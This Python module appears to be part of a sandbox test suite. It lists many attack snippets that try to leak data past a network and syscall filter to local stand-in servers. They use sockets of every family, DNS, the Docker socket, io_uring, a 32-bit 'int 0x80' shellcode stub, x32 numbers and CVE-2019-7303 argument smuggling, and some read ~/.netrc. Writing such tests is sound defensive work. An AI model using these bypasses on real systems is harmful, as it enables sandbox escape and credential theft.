"""Reaching servers: every family of sockets, and every way round the call that opens one."""

from .attack import Attack
from .host import HAS_32_BIT, HAS_X32, IS_ROOT, IS_X86, NEEDS_ROOT, answers, can_open
from .signs import arrived, either, secret_came_out, told, watched


def _somebody_listens(scene, over):
    """Return whether the planted free port answers meanwhile."""
    import socket

    while not over.wait(0.01):
        try:
            socket.create_connection(("127.0.0.1", scene.free_port), 0.2).close()
        except OSError:
            continue
        return True
    return False


HAS_IO_URING = answers(425, 1, 0)

#: The 32-bit door: registers from a table, then ``int 0x80``. Addresses must lie in the first four gigabytes.
_DOOR_32 = """
libc.mmap.restype = ctypes.c_void_p
page = libc.mmap(None, ctypes.c_size_t(8192), 7, 0x22 | 0x40, -1, ctypes.c_long(0))
code = bytes.fromhex("5355 8b07 8b5f04 8b4f08 8b570c 8b7710 8b6f18 8b7f14 cd80 5d5b c3")
ctypes.memmove(page, code, len(code))
enter = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(page)

def call32(*registers):
    ctypes.memmove(page + 4096, struct.pack("=7I", *registers, *[0] * (7 - len(registers))), 28)
    result = enter(page + 4096)
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result

def low(data):
    ctypes.memmove(page + 6144, data, len(data))
    return page + 6144
"""

#: A ring with one entry; ``ask`` submits one operation and returns its result.
_RING = """
state = ctypes.create_string_buffer(120)
ring = syscall(425, 1, state)
fields = struct.unpack("=10I10I10I", state.raw)
n_sq, n_cq, sq, cq = fields[0], fields[1], fields[10:20], fields[20:30]
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
size = max(sq[6] + 4 * n_sq, cq[5] + 16 * n_cq)
rings = libc.mmap(None, size, 3, 1, ring, 0)
entries = libc.mmap(None, 64 * n_sq, 3, 1, ring, 0x10000000)

def word(place):
    return ctypes.c_uint32.from_address(rings + place)

def ask(code, fd, offset, address, length, flags=0):
    ctypes.memmove(entries, struct.pack("=BBHiQQIIQ24x", code, 0, 0, fd, offset, address, length, flags, 7), 64)
    word(sq[6]).value = 0
    word(sq[1]).value += 1
    syscall(426, ring, 1, 1, 1, None, 0)
    place = cq[5] + 16 * (word(cq[0]).value & word(cq[2]).value)
    result = ctypes.c_int32.from_address(rings + place + 8).value
    word(cq[0]).value += 1
    if result < 0:
        raise OSError(-result, os.strerror(-result))
    return result
"""

ATTACKS = [
    Attack(
        "tcp_localhost",
        "Connect to a server on this machine.",
        "socket.create_connection(('127.0.0.1', C['ports']['tcp']), 2).send(b'leak')",
        arrived("tcp"),
    ),
    Attack(
        "http_tracker",
        "Write to the user's tracking server as their library does.",
        """
        import urllib.request
        url = f"http://127.0.0.1:{C['ports']['tracker']}/api/2.0/mlflow/runs/create"
        urllib.request.urlopen(url, data=b"leak", timeout=0.2)
        """,
        arrived("tracker"),
    ),
    Attack(
        "cloud_metadata",
        "Ask the cloud for the machine's keys; a server of this machine stands in for it.",
        """
        ours = socket.socket()
        ours.setblocking(False)
        with suppress(BlockingIOError):
            ours.connect(("127.0.0.1", C["ports"]["metadata"]))
        """,
        arrived("metadata"),
    ),
    Attack(
        "tcp_by_ipv6",
        "Reach an IPv4 server by an IPv6 socket.",
        "s = socket.socket(socket.AF_INET6); s.connect(('::ffff:127.0.0.1', C['ports']['tcp']))",
        arrived("tcp"),
    ),
    Attack(
        "tcp_fast_open",
        "Connect by sending (MSG_FASTOPEN).",
        "socket.socket().sendto(b'leak', 0x20000000, ('127.0.0.1', C['ports']['tcp']))",
        arrived("tcp"),
    ),
    Attack(
        "mptcp_localhost",
        "Connect by multipath TCP, which rules for TCP may forget.",
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(('127.0.0.1', C['ports']['tcp']))",
        arrived("tcp"),
        control=False,
        without="kernels without multipath TCP lack the protocol",
    ),
    Attack(
        "udp_localhost",
        "Send a packet.",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', C['ports']['udp']))",
        arrived("udp"),
    ),
    Attack(
        "udp_many",
        "Send several packets by one call (sendmmsg).",
        """
        ours = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        ours.connect(("127.0.0.1", C["ports"]["udp"]))
        text = ctypes.create_string_buffer(b"leak")
        vector = (ctypes.c_size_t * 2)(ctypes.addressof(text), 4)
        fields = (0, 0, ctypes.addressof(vector), 1, 0, 0, 0, 0)
        message = ctypes.create_string_buffer(struct.pack("=QIxxxxQQQQIxxxxIxxxx", *fields))
        checked(libc.sendmmsg(ours.fileno(), message, 1, 0))
        """,
        arrived("udp"),
    ),
    Attack(
        "dns_by_libc",
        "Carry data out in a name that the C library looks up; a server of this machine stands in.",
        """
        find, begin = getattr(libc, "__res_state"), getattr(libc, "__res_init")
        find.restype = ctypes.c_void_p
        checked(begin())
        state = find()
        ctypes.memmove(state, struct.pack("=ii", 1, 1), 8)
        server = struct.pack("=H", 2) + struct.pack("!H", C["ports"]["udp"]) + bytes([127, 0, 0, 1] + [0] * 8)
        ctypes.memmove(state + 16, struct.pack("=i", 1) + server, 20)
        libc.res_query(b"leak.example", 1, 1, ctypes.create_string_buffer(512), 512)
        """,
        arrived("udp"),
        control=IS_X86,
        without="the state of the resolver lies elsewhere on other processors",
        limits={"wall_s": 5.0},
    ),
    Attack(
        "tcp_bind_listen",
        "Listen, so that somebody can come in.",
        """
        ours = socket.socket()
        ours.bind(("127.0.0.1", C["free_port"]))
        ours.listen()
        ours.settimeout(3)
        ours.accept()
        """,
        watched,
        during=_somebody_listens,
    ),
    Attack(
        "tcp_listen_unbound",
        "Listen on a port that the kernel chooses, without binding.",
        "s = socket.socket(); s.listen(); tell(s.getsockname()[1])",
        told,
    ),
    Attack(
        "unix_path_socket",
        "Connect to a socket in the file system.",
        "s = socket.socket(socket.AF_UNIX); s.connect(C['paths']['unix']); s.send(b'leak')",
        arrived("unix"),
    ),
    Attack(
        "docker_socket",
        "Ask a container engine, session bus, display or key agent for what it does for the user.",
        """
        s = socket.socket(socket.AF_UNIX)
        s.connect(C["paths"]["docker"])
        s.send(b"POST /containers/create HTTP/1.1" + bytes([13, 10, 13, 10]))
        """,
        arrived("docker"),
    ),
    Attack(
        "unix_abstract_socket",
        "Connect to a socket without a path.",
        "s = socket.socket(socket.AF_UNIX); s.connect(chr(0) + C['abstract']); s.send(b'leak')",
        arrived("abstract"),
    ),
    Attack(
        "unix_dgram_sendto",
        "Send a packet to a socket in the file system.",
        "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'leak', C['paths']['unix_datagrams'])",
        arrived("unix_datagrams"),
    ),
    Attack(
        "socketpair_sendto",
        "Make a pair, which is allowed, and send from it to a path.",
        """
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        ours.sendto(b"leak", C["paths"]["unix_datagrams"])
        """,
        arrived("unix_datagrams"),
    ),
    Attack(
        "socketpair_sendto_abstract",
        "The same to a socket without a path.",
        """
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        ours.sendto(b"leak", chr(0) + C["abstract"] + "d")
        """,
        arrived("abstract_datagrams"),
    ),
    Attack(
        "socketpair_sendmsg",
        "The same by sendmsg, with a descriptor of one's own in it.",
        """
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        fd = struct.pack("=i", os.open(TABLE, os.O_RDONLY))
        ours.sendmsg([b"leak"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fd)], 0, C["paths"]["unix_datagrams"])
        """,
        arrived("unix_datagrams"),
    ),
    Attack(
        "socketpair_reconnect",
        "Make a pair of packets, and connect one end to another path.",
        """
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        ours.connect(C["paths"]["unix_datagrams"])
        ours.send(b"leak")
        """,
        arrived("unix_datagrams"),
    ),
    Attack(
        "socketpair_of_the_network",
        "Make a pair of another family.",
        "left, right = socket.socketpair(socket.AF_INET, socket.SOCK_STREAM); tell()",
        told,
        control=False,
        without="the kernel makes pairs of local sockets only",
    ),
    Attack(
        "zygotes_socket",
        "Find the zygote's socket under any name and connect to it.",
        """
        with open("/proc/net/unix") as file:
            names = [line.split()[7] for line in file if len(line.split()) > 7]
        for name in names:
            if "octopus" in name:
                s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                with suppress(OSError):
                    s.connect(name.replace("@", chr(0)))
                    tell(name)
        """,
        told,
        control=False,
        without="the zygote's socket has no name, at every level",
    ),
    Attack(
        "list_connections",
        "Read which connections and sockets the user has.",
        """
        port = f":{C['ports']['tcp']:04X}"
        tell(any(port in line for line in open("/proc/net/tcp")))
        """,
        lambda after: after.told == "True",
    ),
    Attack(
        "vsock_netlink_packet",
        "Open sockets of rare families: the hypervisor's, the kernel's, the wire's, the crypto layer's.",
        """
        for family, kind in ((40, 1), (16, 3), (17, 3), (38, 5), (2, 3), (29, 3), (31, 3), (44, 3), (15, 3)):
            with suppress(OSError):
                socket.socket(family, kind)
                tell(family)
        """,
        told,
    ),
    Attack(
        "netlink_change",
        "Talk to the kernel's routing by a netlink socket.",
        "s = socket.socket(16, 3, 0); s.bind((0, 0)); tell()",
        told,
    ),
    Attack(
        "io_uring_setup",
        "Make a ring by which the kernel opens files and sockets without any filtered call.",
        "syscall(425, 4, ctypes.create_string_buffer(120)); tell()",
        told,
        control=HAS_IO_URING,
        without="this machine gives no rings",
    ),
    Attack(
        "io_uring_read",
        "Read a secret through a ring.",
        _RING
        + """
path = ctypes.create_string_buffer((C["home"] + "/.netrc").encode())
held = ctypes.create_string_buffer(100)
fd = ask(18, -100, 0, ctypes.addressof(path), 0, os.O_RDONLY)
ask(22, fd, 0, ctypes.addressof(held), 100)
say(held.value)
""",
        secret_came_out,
        control=HAS_IO_URING,
        without="this machine gives no rings",
    ),
    Attack(
        "io_uring_connect",
        "Connect through a ring.",
        _RING
        + """
fd = ask(45, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", C["ports"]["tcp"]) + bytes([127, 0, 0, 1]) + bytes(8)
held = ctypes.create_string_buffer(address)
ask(16, fd, 16, ctypes.addressof(held), 0)
""",
        arrived("tcp"),
        control=HAS_IO_URING,
        without="this machine gives no rings, or old ones",
    ),
    Attack(
        "call_by_32_bit_door",
        "Open a socket and send a packet by the 32-bit numbers, which a filter of 64-bit ones does not know.",
        _DOOR_32
        + """
fd = call32(359, 2, 2, 0)
address = struct.pack("=H", 2) + struct.pack("!H", C["ports"]["udp"]) + bytes([127, 0, 0, 1]) + bytes(8)
call32(369, fd, low(address + b"leak") + 16, 4, 0, low(address + b"leak"), 16)
""",
        arrived("udp"),
        control=HAS_32_BIT,
        without="the 32-bit door is closed on this machine",
        possible_here=IS_X86,
    ),
    Attack(
        "open_by_32_bit_door",
        "Read a secret by the 32-bit numbers.",
        _DOOR_32
        + """
say(os.read(call32(5, low((C["home"] + "/.netrc").encode() + bytes(1)), 0), 100))
""",
        secret_came_out,
        control=HAS_32_BIT,
        without="the 32-bit door is closed on this machine",
        possible_here=IS_X86,
    ),
    Attack(
        "call_by_x32_numbers",
        "Open a socket by the numbers of the x32 calls.",
        "fd = syscall(0x40000000 | 41, 2, 2, 0); tell(fd)",
        told,
        control=HAS_X32,
        without="this kernel has no x32 calls",
        possible_here=IS_X86,
    ),
    Attack(
        "call_with_high_bits",
        "Hide a family or a request in the upper half of an argument, which the kernel drops (CVE-2019-7303).",
        """
        libc.syscall.restype = ctypes.c_long
        family, kind = ctypes.c_long((1 << 32) | 2), ctypes.c_long(2)
        fd = checked(libc.syscall(ctypes.c_long(number(41, 198)), family, kind, ctypes.c_long(0)))
        socket.socket(fileno=fd).sendto(b"leak", ("127.0.0.1", C["ports"]["udp"]))
        """,
        arrived("udp"),
    ),
    Attack(
        "bring_up_network",
        "Make network interfaces of one's own (tun).",
        "fd = os.open('/dev/net/tun', os.O_RDWR); tell()",
        told,
        control=IS_ROOT and can_open("/dev/net/tun", 2),
        without=NEEDS_ROOT,
    ),
    Attack(
        "set_host_name",
        "Name the machine, here as it is named.",
        "name = os.uname().nodename.encode(); checked(libc.sethostname(name, len(name))); tell()",
        told,
        control=IS_ROOT,
        without=NEEDS_ROOT,
    ),
    Attack(
        "all_of_them",
        "Try each server once more from a program that was started anew.",
        """
        program = (
            "import json, socket, sys; c = json.loads(sys.argv[1])"
            + chr(10) + "for f, t, a in ((2, 1, ('127.0.0.1', c['ports']['tcp'])), (1, 1, c['paths']['unix'])):"
            + chr(10) + " try: socket.socket(f, t).connect(a)"
            + chr(10) + " except OSError as e: print(e)"
        )
        subprocess.run([sys.executable, "-I", "-S", "-c", program, json.dumps(C)])
        """,
        either(arrived("tcp"), arrived("unix")),
    ),
]
